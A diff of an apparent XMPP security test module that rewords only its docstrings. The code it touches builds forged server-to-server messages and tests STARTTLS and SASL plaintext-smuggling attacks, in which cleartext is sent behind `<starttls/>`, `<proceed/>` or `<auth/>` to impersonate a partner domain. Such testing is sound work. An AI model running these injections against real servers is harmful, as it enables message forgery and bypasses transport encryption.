@@ -1,4 +1,4 @@
-"""Clear octets that the hub should take for octets of TLS, or octets of a later layer sent in the former."""
+"""Clear octets that the attacker wants the hub to read as octets of TLS, and octets sent before their layer begins."""
 
 import base64
 import socket
@@ -17,7 +17,7 @@ PROCEED_WITHIN_S = 5.0
 
 
 def forged(ground: Ground) -> str:
-    """What a stranger writes in clear for the hub to take it for the partner's."""
+    """Returns clear text that the hub would have to mistake for the partner's."""
     header = stream_header(from_=ground.domain, to=ground.victim)
     message = f"<message from='forger@{ground.domain}' to='b@{ground.victim}'><body>forged</body></message>"
     return header + EXTERNAL.format("=") + header + message + message
@@ -25,9 +25,11 @@ def forged(ground: Ground) -> str:
 
 @kind
 def smuggle_behind_starttls(ground: Ground, asks: int, pause: bool) -> None:
-    """Fills the hub's outbox with answers that are not read, agrees on TLS, and goes on in clear. Then the partner's
-    own TLS session runs on the connection. @param asks so many questions fill it. @param pause between `<starttls/>`
-    and the rest, so that the hub reads them apart.
+    """Fills the hub's outbox with unread answers, agrees on TLS, and goes on in clear. Then the partner's own TLS
+    session runs on the connection.
+
+    @param asks number of questions that fill the outbox.
+    @param pause whether to wait between `<starttls/>` and the rest, so that the hub reads them separately.
     """
     ground.begin()
     tried = agreed = handshakes = 0
@@ -53,7 +55,7 @@ def smuggle_behind_starttls(ground: Ground, asks: int, pause: bool) -> None:
 
 
 def fill(ground: Ground, asks: int) -> Stream:
-    """A stream in clear with so many questions, the answers to which wait in small buffers."""
+    """Opens a stream in clear and sends `asks` questions. Their answers wait in small buffers."""
     sock = socket.socket()
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     sock.connect(ground.s2s)
@@ -61,14 +63,14 @@ def fill(ground: Ground, asks: int) -> Stream:
     stream.send_header(from_=ground.domain, to=ground.victim)
     stream.read_header()
     if not stream.read().is_a("stream:features"):
-        raise Closed  # one of too many for the hub
+        raise Closed  # refused by the hub's limits
     question = f"<db:verify from='{ground.domain}' to='{ground.victim}' id='1'>k</db:verify>"
     stream.send(question * asks, within=3)
     return stream
 
 
 def reaches_proceed(stream: Stream) -> bool:
-    """Reads what the hub had to say in clear, now with room for it. @returns whether it agreed on TLS."""
+    """Reads the hub's answers in clear, with a large buffer. @returns whether the hub agreed on TLS."""
     stream.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
     last = b""
     while b"<proceed" not in last:
@@ -84,7 +86,7 @@ def read_to_end(stream: Stream) -> None:
 
 @kind
 def smuggle_behind_proceed(ground: Ground) -> None:
-    """As the server of a domain that a component writes to: goes on in clear behind `<proceed/>`, in one segment."""
+    """Plays the server of a domain that a component sends to: writes clear text behind `<proceed/>`, in one segment."""
     remote = ground.listener()
     component = ground.stream("component")
     ground.begin()
@@ -110,7 +112,7 @@ def smuggle_behind_proceed(ground: Ground) -> None:
 
 @kind
 def smuggle_behind_auth(ground: Ground, direct: bool) -> None:
-    """On TLS: sends `<auth/>` and, in the same record, what should come only after `<success/>`."""
+    """Sends on TLS `<auth/>` and, in the same record, the stream that may begin only after `<success/>`."""
     ground.begin()
     tried = 0
     authzid = base64.b64encode(ground.domain.encode()).decode()
